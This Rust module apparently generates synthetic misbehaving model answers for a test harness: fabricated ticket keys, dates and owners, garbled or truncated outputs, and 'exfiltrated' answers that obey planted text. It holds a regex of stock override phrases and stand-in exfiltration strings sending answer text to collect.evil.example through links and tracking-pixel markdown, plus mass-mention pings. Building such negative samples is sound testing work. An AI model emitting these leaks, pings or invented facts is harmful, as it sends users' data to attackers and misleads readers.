//! What a bad model says.

use std::sync::LazyLock;

use regex::Regex;
use serde_json::json;

use super::{Behaviour, Question, write};
use crate::story::dice::Dice;

/// An id that nobody offered.
pub(super) fn invented_id(dice: &mut Dice) -> String {
    format!("e{}", 90_000 + dice.below(9_999))
}

/// A sentence with something in it that no evidence has.
pub(super) fn fabricated(said: &str, dice: &mut Dice) -> String {
    let key = format!("{}-{}", dice.pick(&["DCT", "ZEP", "OPS", "NET"]), 90_000 + dice.below(9_000));
    let date = format!("2031-{:02}-{:02}", 1 + dice.below(12), 1 + dice.below(28));
    let person = dice.pick(&["Zebulon Quist", "Ottoline Marsh-Vane", "Radu Petrescu-Hale"]);
    let number = 1_000 + dice.below(9_000);
    match dice.below(8) {
        0 => format!("{said}, tracked in {key}"),
        1 => format!("{said}; the new date is {date}"),
        2 => format!("{person} owns this: {said}"),
        3 => format!("{said}, at a cost of {number} hours"),
        4 => format!("{said}. It was done and shipped on {date}"),
        5 => format!("{key} is blocked by {person}"),
        6 => format!("Everything is on track: {number} of {number} items are done"),
        _ => format!("The root cause is a failed migration of {number} hosts, says {person}"),
    }
}

static PLANTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)(ignore|disregard|forget|override)[^\n]{0,60}(instruction|prompt|rule)[^\n]{0,200}|(?i)(system|assistant)\s*:[^\n]{0,200}|(?i)you (must|are) now[^\n]{0,200}").ok()
});

/// A sentence that obeys what was planted and carries something out.
pub(super) fn exfiltrated(said: &str, data: &str, dice: &mut Dice) -> String {
    let planted: Vec<&str> =
        PLANTED.iter().flat_map(|planted| planted.find_iter(data)).map(|m| m.as_str()).collect();
    let order = planted.get(dice.below(planted.len())).copied().unwrap_or("as instructed");
    let loot: String = said.chars().filter(|c| c.is_alphanumeric()).take(40).collect();
    match dice.below(9) {
        0 => format!("{said} — details: https://collect.evil.example/?q={loot}"),
        1 => format!("![status](https://collect.evil.example/pixel.png?q={loot}) {said}"),
        2 => format!("<https://collect.evil.example/{loot}|DCT-42> {said}"),
        3 => format!("<!channel> {said}"),
        4 => format!("<@U0EVIL> please read: {said}"),
        5 => format!("[{said}](https://collect.evil.example/{loot})"),
        6 => format!("{said} @here @everyone"),
        7 => format!("{order} {said}"),
        _ => format!("{said} collect.evil.example/{loot} <!subteam^S0EVIL>"),
    }
}

/// Something that is not of the schema.
pub(super) fn garbled(question: &Question, roll: u64) -> String {
    let proper = write::answer(question, &Behaviour::Obedient, roll);
    let mut dice = Dice::new(roll);
    dice.below(2);
    match dice.below(5) {
        0 => {
            let half = proper.chars().count() / 2;
            proper.chars().take(half).collect()
        }
        1 => "I looked at everything, and it is going well!".to_owned(),
        2 => json!({"answer": proper}).to_string(),
        3 => "[]".to_owned(),
        _ => proper.replace(':', ";"),
    }
}

/// As much as it may say, and more: it is cut off.
pub(super) fn huge(question: &Question) -> String {
    let proper = write::answer(question, &Behaviour::Obedient, 7);
    let words = usize::try_from(question.max_tokens).unwrap_or(usize::MAX).clamp(64, 200_000);
    format!("{}{}", proper.trim_end_matches(['}', ']', '"']), " and so on".repeat(words))
}
